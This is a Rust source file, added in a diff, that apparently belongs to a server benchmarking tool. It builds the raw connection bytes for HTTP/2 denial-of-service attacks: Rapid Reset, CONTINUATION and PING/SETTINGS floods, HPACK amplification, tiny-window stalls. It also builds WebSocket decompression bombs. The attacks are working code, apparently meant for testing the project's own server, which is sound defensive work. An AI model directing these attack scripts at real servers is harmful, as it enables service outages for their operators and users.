@@ -1,0 +1,215 @@
+//! What attackers say: for each attack the bytes of one connection, as many as anybody takes.
+
+use clap::ValueEnum;
+use pushlab_http2::frame::{Code, PREFACE};
+use pushlab_http2::hpack::Encoder;
+use pushlab_wire::deflate::Deflater;
+use pushlab_wire::fields::FieldList;
+use pushlab_wire::websocket::{encode_compressed, handshake};
+
+/// An attack, on HTTP/2 (RFC 9113, section 10.5) or on compressed WebSockets.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
+pub enum Attack {
+    /// Streams that the client resets as soon as they are open (CVE-2023-44487).
+    RapidReset,
+    /// Streams that the server has to reset (CVE-2025-8671).
+    ForcedReset,
+    /// SETTINGS that have to be acknowledged (CVE-2019-9515).
+    Settings,
+    /// PING that has to be answered (CVE-2019-9512).
+    Ping,
+    /// Heads without end (VU#421644).
+    Continuation,
+    /// Small field blocks that stand for large heads.
+    Hpack,
+    /// Answers taken a byte at a time (CVE-2019-9517, CVE-2019-9511).
+    TinyWindows,
+    /// DATA without any (CVE-2019-9518).
+    EmptyData,
+    /// Windows opened by a byte.
+    WindowUpdate,
+    /// Requests whose answers are not read.
+    Unread,
+    /// Messages that are too large when they are decompressed.
+    Bombs,
+    /// Messages that are just not too large when they are decompressed, from two hundred times fewer bytes.
+    SmallBombs,
+}
+
+/// Types of frames.
+mod kind {
+    pub const DATA: u8 = 0;
+    pub const HEADERS: u8 = 1;
+    pub const RST_STREAM: u8 = 3;
+    pub const SETTINGS: u8 = 4;
+    pub const PING: u8 = 6;
+    pub const WINDOW_UPDATE: u8 = 8;
+    pub const CONTINUATION: u8 = 9;
+}
+
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
+const INITIAL_WINDOW_SIZE: u16 = 4;
+
+/// Frames that are made at once.
+const AT_ONCE: u32 = 200;
+/// Streams that a server allows.
+const STREAMS: u32 = 100;
+/// Bytes that each of those is allowed before it is asked for another answer: about the size of one.
+const ANSWER_BYTES: u32 = 5_000;
+/// What a bomb becomes, bytes.
+const BOMB_BYTES: usize = 10 << 20;
+/// The same for a small one: the default of `--max-message-bytes`.
+const SMALL_BOMB_BYTES: usize = 64 * 1024;
+/// Browsers offer this.
+const OFFER: &str = "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n";
+
+/// What one connection says.
+pub struct Script {
+    attack: Attack,
+    encoder: Encoder,
+    /// The next stream of the client.
+    stream: u32,
+    /// Times that it was asked to go on.
+    round: u32,
+    /// A frame with a compressed message.
+    bomb: Vec<u8>,
+}
+
+impl Attack {
+    /// Whether the attacker reads what it is told.
+    pub fn reads(self) -> bool {
+        self != Self::Unread
+    }
+
+    fn is_of_websockets(self) -> bool {
+        matches!(self, Self::Bombs | Self::SmallBombs)
+    }
+}
+
+impl Script {
+    /// Of connections that attack like this.
+    pub fn new(attack: Attack) -> Self {
+        let size = if attack == Attack::Bombs { BOMB_BYTES } else { SMALL_BOMB_BYTES };
+        let mut bomb = Vec::new();
+        if attack.is_of_websockets() {
+            // JSON may have any space around it.
+            let ping = "[\"ping\",1]";
+            let text = ping.to_owned() + &" ".repeat(size - ping.len());
+            let text = Deflater::default().deflate(text.as_bytes()).expect("spaces get smaller");
+            encode_compressed(&mut bomb, &text, Some([1, 2, 3, 4]));
+        }
+        Self { attack, encoder: Encoder::new(), stream: 1, round: 0, bomb }
+    }
+
+    /// Begins a new connection.
+    pub fn begin(&mut self, out: &mut Vec<u8>) {
+        (self.encoder, self.stream, self.round) = (Encoder::new(), 1, 0);
+        if self.attack.is_of_websockets() {
+            return handshake::encode_request_with(out, "bench", "/ws", *b"0123456789abcdef", OFFER);
+        }
+        out.extend_from_slice(PREFACE);
+        let window: u32 = if self.attack == Attack::TinyWindows { 1 } else { 1 << 20 };
+        let settings = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &window.to_be_bytes()].concat();
+        frame(out, kind::SETTINGS, 0, 0, &settings);
+        frame(out, kind::WINDOW_UPDATE, 0, 0, &(1_u32 << 30).to_be_bytes());
+        match self.attack {
+            Attack::EmptyData => {
+                let block = self.block("POST", "/publish?channel=quiet");
+                frame(out, kind::HEADERS, END_HEADERS, 1, &block);
+            }
+            Attack::WindowUpdate => drop(self.ask(out, "GET", "/stream?channel=quiet")),
+            _ => {}
+        }
+    }
+
+    /// Says more.
+    pub fn go_on(&mut self, out: &mut Vec<u8>) {
+        match self.attack {
+            Attack::TinyWindows => self.open_by_a_byte(out),
+            Attack::Hpack => self.say_large_head(out),
+            Attack::Bombs => out.extend_from_slice(&self.bomb),
+            _ => (0..AT_ONCE).for_each(|n| self.say(n, out)),
+        }
+        self.round += 1;
+    }
+
+    fn say(&mut self, n: u32, out: &mut Vec<u8>) {
+        let first = self.round == 0 && n == 0;
+        match self.attack {
+            Attack::RapidReset => {
+                let stream = self.ask(out, "GET", "/poll?channel=quiet&wait=60");
+                frame(out, kind::RST_STREAM, 0, stream, &Code::Cancel.number().to_be_bytes());
+            }
+            Attack::ForcedReset => {
+                let stream = self.ask(out, "GET", "/poll?channel=quiet&wait=60");
+                frame(out, kind::WINDOW_UPDATE, 0, stream, &[0; 4]);
+            }
+            Attack::Settings => {
+                let settings = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &n.to_be_bytes()].concat();
+                frame(out, kind::SETTINGS, 0, 0, &settings);
+            }
+            Attack::Ping => frame(out, kind::PING, 0, 0, &u64::from(n).to_be_bytes()),
+            Attack::Continuation if first => frame(out, kind::HEADERS, END_STREAM, 1, &[0; 3_500]),
+            Attack::Continuation => frame(out, kind::CONTINUATION, 0, 1, &[0; 3_500]),
+            Attack::EmptyData => frame(out, kind::DATA, 0, 1, b""),
+            Attack::WindowUpdate => frame(out, kind::WINDOW_UPDATE, 0, n % 2, &1_u32.to_be_bytes()),
+            Attack::Unread => drop(self.ask(out, "HEAD", "/healthz")),
+            Attack::SmallBombs => out.extend_from_slice(&self.bomb),
+            Attack::TinyWindows | Attack::Hpack | Attack::Bombs => {}
+        }
+    }
+
+    /// Asks for pages on all streams, and takes a byte of each at a time.
+    fn open_by_a_byte(&mut self, out: &mut Vec<u8>) {
+        if self.round.is_multiple_of(ANSWER_BYTES) {
+            for _ in 0..STREAMS {
+                self.ask(out, "GET", "/metrics");
+            }
+        }
+        let first = self.stream - 2 * STREAMS;
+        for n in 0..STREAMS {
+            frame(out, kind::WINDOW_UPDATE, 0, first + 2 * n, &1_u32.to_be_bytes());
+        }
+    }
+
+    /// The first head brings a field of four kilobytes, the others name it by a byte, thousands of times.
+    fn say_large_head(&mut self, out: &mut Vec<u8>) {
+        let mut block = self.block("GET", "/healthz");
+        if self.round == 0 {
+            // With incremental indexing: a name of one byte, a value of 3,900 in HPACK's own way of writing numbers.
+            block.extend([0x40, 1, b'x', 0x7f, 0x80 | (3_773 % 128) as u8, (3_773 / 128) as u8]);
+            block.extend([b'x'; 3_900]);
+        } else {
+            block.extend([0x80 | 62; 12_000]);
+        }
+        frame(out, kind::HEADERS, END_HEADERS | END_STREAM, self.stream, &block);
+        self.stream += 2;
+    }
+
+    /// A request on the next stream, whose number it gives.
+    fn ask(&mut self, out: &mut Vec<u8>, method: &str, path: &str) -> u32 {
+        let block = self.block(method, path);
+        let stream = self.stream;
+        frame(out, kind::HEADERS, END_HEADERS | END_STREAM, stream, &block);
+        self.stream += 2;
+        stream
+    }
+
+    fn block(&mut self, method: &str, path: &str) -> Vec<u8> {
+        let mut fields = FieldList::default();
+        for (name, value) in [(":method", method), (":scheme", "http"), (":path", path), (":authority", "bench")] {
+            fields.push(name.as_bytes(), value.as_bytes());
+        }
+        let mut block = Vec::new();
+        self.encoder.encode(fields.iter(), &mut block);
+        block
+    }
+}
+
+fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
+    let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
+    out.extend_from_slice(&[a, b, c, kind, flags]);
+    out.extend_from_slice(&stream.to_be_bytes());
+    out.extend_from_slice(payload);
+}
